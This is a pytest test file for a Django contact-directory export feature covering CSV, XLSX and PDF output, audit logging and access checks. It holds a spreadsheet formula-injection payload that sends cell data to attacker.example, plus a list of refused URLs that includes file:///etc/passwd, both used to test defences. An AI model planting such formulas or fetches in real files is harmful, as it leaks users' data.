"""Exporting a contact list: formula-safe CSV and XLSX that import back, a printable PDF."""

import csv
import io
import shutil
import subprocess
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from conftest import World
from opentrm.accounts.models import User
from opentrm.accounts.roles import Role
from opentrm.audit.events import EventType
from opentrm.audit.models import AuditEvent
from opentrm.directory import services
from opentrm.directory.exporting import ExportFormat, contacts_export, neutralise
from opentrm.directory.importing import COLUMNS, contacts_import
from opentrm.directory.models import (
    ChannelKind,
    ContactChannel,
    ContactPoint,
    Function,
    Organisation,
    OrganisationType,
    Responsibility,
)
from opentrm.directory.services import ChannelData

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


try:
    from opentrm.core import pdf_engine
except OSError:  # WeasyPrint could not load the Pango system library
    pdf_engine = None  # type: ignore[assignment]

needs_pdf = pytest.mark.skipif(
    pdf_engine is None, reason="PDF output needs the Pango library (apt-get install libpango-1.0-0)"
)


@pytest.fixture
def contact_list(world: World) -> Organisation:
    """A small fictional contact list for country A; returns the police directorate."""
    editor = world.actor(Role.DIRECTORY_EDITOR)
    directorate = services.organisation_create(
        actor=editor,
        country=world.country_a,
        name="Fictiva Police Directorate",
        type=OrganisationType.POLICE,
    )
    unit = services.organisation_create(
        actor=editor,
        country=world.country_a,
        name="Fictiva Anti-Trafficking Unit",
        acronym="FATU",
        type=OrganisationType.ANTI_TRAFFICKING_POLICE,
        parent=directorate,
        city="Fictiva",
        address="Rruga e Shpresës 7; Fictiva",
    )
    head = services.contact_point_create(
        actor=editor,
        organisation=unit,
        position=HYPERLINK,
        person_name="Dritan Imagjinari",
        channels=[
            ChannelData(ChannelKind.PHONE, "+355 4 222 333"),
            ChannelData(ChannelKind.PHONE, "04 222 334", label="ext. 12"),
            ChannelData(ChannelKind.EMAIL, "unit@police.fictiva.example"),
            ChannelData(ChannelKind.HOTLINE, "0800 1234", hours="08:00-20:00"),
            ChannelData(ChannelKind.POSTAL, "P. Box 5; Fictiva"),
        ],
        languages=["sq", "en"],
    )
    services.contact_point_verify(actor=editor, contact_point=head, on=date(2025, 3, 1))
    desk = services.contact_point_create(
        actor=editor,
        organisation=world.agency_a,
        position="Duty desk",
        # Not in the order of the file's columns: an import must not reorder them.
        channels=[
            ChannelData(ChannelKind.HOTLINE, "0800 5555", available_24_7=True),
            ChannelData(ChannelKind.EMAIL, "desk@agency-a.example"),
        ],
    )
    services.responsibility_add(
        actor=editor,
        country=world.country_a,
        function=Function.IDENTIFICATION,
        organisation=unit,
        contact_point=head,
    )
    services.responsibility_add(
        actor=editor,
        country=world.country_a,
        function=Function.PROCEEDINGS,
        organisation=unit,
        contact_point=head,
        label="Criminal Proceedings",
        note="Serious crimes only",
    )
    services.responsibility_add(
        actor=editor,
        country=world.country_a,
        function=Function.FIRST_ASSISTANCE,
        organisation=world.agency_a,
    )
    assert desk.pk
    return directorate


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_it_neutralises_formula_cells() -> None:
    assert [
        neutralise(v) for v in ["=1+1", "+355 4", "-2", "@SUM(A1)", "\tx", "\rx", "Fictiva", ""]
    ] == [
        "'=1+1",
        "'+355 4",
        "'-2",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "Fictiva",
        "",
    ]


def test_it_exports_csv_in_the_import_layout_with_formulas_neutralised(
    world: World, contact_list: Organisation
) -> None:
    export = contacts_export(
        actor=world.actor(Role.CASEWORKER), country=world.country_a, fmt=ExportFormat.CSV
    )

    rows = csv_rows(export.content)
    assert list(rows[0]) == list(COLUMNS)
    identification = next(r for r in rows if r["function"] == "sop1")
    assert identification["position"] == "'" + HYPERLINK
    assert identification["phone"] == "'+355 4 222 333; 04 222 334"
    assert identification["parent"] == "Fictiva Police Directorate"
    assert identification["languages"] == "en, sq"
    assert identification["last_verified"] == "2025-03-01"
    # The body listed without a contact point, its contact points, and the parent body follow.
    assert [
        (r["organisation"], r["function"], r["position"]) for r in rows if r["function"] != "sop1"
    ] == [
        ("Agency A Centre for Social Work", "sop2", ""),
        ("Fictiva Anti-Trafficking Unit", "sop5", "'" + HYPERLINK),
        ("Agency A Centre for Social Work", "", "Duty desk"),
        ("Fictiva Police Directorate", "", ""),
    ]
    assert export.rows == 5


def test_it_exports_xlsx_cells_as_text_never_as_formulas(
    world: World, contact_list: Organisation
) -> None:
    export = contacts_export(
        actor=world.actor(Role.CASEWORKER), country=world.country_a, fmt=ExportFormat.XLSX
    )

    sheet = load_workbook(io.BytesIO(export.content)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    cells = {header[i]: cell for i, cell in enumerate(sheet[2])}
    assert cells["position"].value == "'" + HYPERLINK
    assert cells["phone"].value == "'+355 4 222 333; 04 222 334"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def _directory_of(world: World) -> list[tuple[object, ...]]:
    """Everything an export describes, independent of ids."""
    organisations = sorted(
        (o.name, o.acronym, o.type, o.parent.name if o.parent else "", o.city, o.address)
        for o in Organisation.objects.filter(country=world.country_a).select_related("parent")
    )
    contacts = sorted(
        (
            c.organisation.name,
            c.position,
            c.person_name,
            str(c.last_verified_at),
            tuple(
                sorted((ch.kind, ch.value, ch.hours, ch.available_24_7) for ch in c.channels.all())
            ),
            tuple(sorted(language.code for language in c.languages.all())),
        )
        for c in ContactPoint.objects.filter(organisation__country=world.country_a)
    )
    responsibilities = sorted(
        (
            r.function,
            r.organisation.name,
            r.contact_point.position if r.contact_point else "",
            r.label,
            r.note,
        )
        for r in Responsibility.objects.filter(country=world.country_a)
    )
    return [*organisations, *contacts, *responsibilities]


@pytest.mark.parametrize("fmt", [ExportFormat.CSV, ExportFormat.XLSX])
def test_an_export_imports_back_unchanged(
    world: World, contact_list: Organisation, fmt: ExportFormat
) -> None:
    editor = world.actor(Role.DIRECTORY_EDITOR)
    exported = contacts_export(actor=editor, country=world.country_a, fmt=fmt)

    again = contacts_import(actor=editor, data=exported.content)

    assert again.counts() | {"rows": 0} == dict.fromkeys(again.counts(), 0)


def test_an_export_rebuilds_the_list_in_an_emptied_directory(
    world: World, contact_list: Organisation
) -> None:
    editor = world.actor(Role.DIRECTORY_EDITOR)
    before = _directory_of(world)
    exported = contacts_export(actor=editor, country=world.country_a, fmt=ExportFormat.CSV)
    Responsibility.objects.all().delete()
    ContactChannel.objects.all().delete()
    ContactPoint.objects.all().delete()
    Organisation.objects.filter(name__startswith="Fictiva", parent__isnull=False).delete()
    Organisation.objects.filter(name__startswith="Fictiva").delete()

    contacts_import(actor=editor, data=exported.content)

    assert _directory_of(world) == before
    reexported = contacts_export(actor=editor, country=world.country_a, fmt=ExportFormat.CSV)
    assert reexported.content == exported.content


def test_it_audits_every_export(world: World, contact_list: Organisation) -> None:
    contacts_export(
        actor=world.actor(Role.INTERPRETER), country=world.country_a, fmt=ExportFormat.XLSX
    )

    [event] = AuditEvent.objects.filter(event_type=EventType.CONTACTS_EXPORTED)
    assert event.actor_id == world.user(Role.INTERPRETER).pk
    assert event.detail == {"country": "AL", "format": "xlsx", "rows": 5}


# --- PDF -----------------------------------------------------------------------------------------


def pdf_text(content: bytes, tmp_path: Path) -> str | None:
    if shutil.which("pdftotext") is None:
        return None
    path = tmp_path / "list.pdf"
    path.write_bytes(content)
    return subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], check=True, capture_output=True, text=True
    ).stdout


@needs_pdf
def test_it_prints_the_contact_list_as_pdf(
    world: World, contact_list: Organisation, tmp_path: Path
) -> None:
    world.country_a.display_note = "A fictional footnote about this country."
    world.country_a.save()

    export = contacts_export(
        actor=world.actor(Role.CASEWORKER), country=world.country_a, fmt=ExportFormat.PDF
    )

    assert export.content.startswith(b"%PDF")
    assert export.rows == 3
    text = pdf_text(export.content, tmp_path)
    if text is None:
        pytest.skip("pdftotext is not installed; only the PDF header was checked")
    flat = " ".join(text.split())
    assert "Fictiva Anti-Trafficking Unit" in flat
    assert "TRM measures" in flat
    assert "Serious crimes only" in flat
    assert "+355 4 222 333" in flat
    assert "A fictional footnote about this country." in flat
    assert "Nobody listed for this procedure." in flat  # longer-term assistance has no body
    assert timezone.localdate().strftime("%Y") in flat


@needs_pdf
def test_the_pdf_is_tagged_for_screen_readers_as_pdf_ua(
    world: World, contact_list: Organisation
) -> None:
    import io

    from pypdf import PdfReader

    export = contacts_export(
        actor=world.actor(Role.CASEWORKER), country=world.country_a, fmt=ExportFormat.PDF
    )

    catalog: Any = PdfReader(io.BytesIO(export.content)).trailer["/Root"]
    assert "/StructTreeRoot" in catalog  # headings, tables, reading order
    assert bool(catalog["/MarkInfo"]["/Marked"])
    assert catalog["/Lang"] == "en"
    metadata = catalog["/Metadata"].get_object().get_data()
    assert b"pdfuaid:part" in metadata


@needs_pdf
def test_the_pdf_renderer_fetches_no_remote_or_private_resources() -> None:
    fetcher = pdf_engine.LocalOnlyFetcher(pdf_engine._roots(None))

    for url in [
        "http://127.0.0.1:9/x.png",
        "https://example.org/font.woff",
        "file:///etc/passwd",
        "ftp://x/y",
    ]:
        with pytest.raises(pdf_engine.ResourceRefusedError):
            fetcher.fetch(url)
    css = next(pdf_engine.STATIC_DIR.rglob("*.css"))
    response = fetcher.fetch(css.as_uri())
    assert response.read() == css.read_bytes()
    response.close()


# --- the page and the command --------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx", pytest.param("pdf", marks=needs_pdf)])
def test_every_member_downloads_an_export_named_by_country_and_date(
    world: World, contact_list: Organisation, login: Callable[[User], Client], fmt: str
) -> None:
    client = login(world.user(Role.CASEWORKER, org="b"))

    response = client.get(reverse("directory:export", args=["al"]), {"format": fmt})

    assert response.status_code == 200
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="contacts-AL-{today}.{fmt}"'
    assert response["Cache-Control"] == "no-store"
    assert AuditEvent.objects.filter(event_type=EventType.CONTACTS_EXPORTED).count() == 1


def test_the_export_page_refuses_an_unknown_format_and_country(
    world: World, login: Callable[[User], Client]
) -> None:
    client = login(world.user(Role.CASEWORKER))

    assert (
        client.get(reverse("directory:export", args=["AL"]), {"format": "docx"}).status_code == 400
    )
    assert (
        client.get(reverse("directory:export", args=["ZZ"]), {"format": "csv"}).status_code == 404
    )
    assert not AuditEvent.objects.filter(event_type=EventType.CONTACTS_EXPORTED).exists()


def test_the_export_page_sends_anonymous_users_to_log_in(world: World, client: Client) -> None:
    response = client.get(reverse("directory:export", args=["AL"]), {"format": "csv"})

    assert response.status_code == 302
    assert reverse("accounts:login") in response["Location"]


def test_the_command_writes_the_export_to_a_file(
    world: World, contact_list: Organisation, tmp_path: Path
) -> None:
    output = tmp_path / "al.xlsx"

    call_command(
        "export_contacts",
        "--country",
        "al",
        "--format",
        "xlsx",
        "--output",
        str(output),
        "--as",
        "a_guardian",
    )

    sheet = load_workbook(output).worksheets[0]
    assert sheet.cell(row=2, column=2).value == "Fictiva Anti-Trafficking Unit"
    [event] = AuditEvent.objects.filter(event_type=EventType.CONTACTS_EXPORTED)
    assert event.actor_label == "a_guardian"


def test_the_command_prints_csv_without_an_output_file(
    world: World, contact_list: Organisation
) -> None:
    out = io.StringIO()

    call_command("export_contacts", "--country", "AL", "--as", "b_prosecutor", stdout=out)

    assert out.getvalue().startswith(",".join(COLUMNS))


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--country", "AL"], "--as"),
        (["--country", "ZZ", "--as", "a_caseworker"], "No country"),
        (["--country", "AL", "--as", "nobody"], "No active user"),
    ],
)
def test_the_command_refuses_without_a_member_or_country(
    world: World, arguments: list[str], message: str
) -> None:
    with pytest.raises(CommandError, match=message):
        call_command("export_contacts", *arguments)
    assert not AuditEvent.objects.filter(event_type=EventType.CONTACTS_EXPORTED).exists()
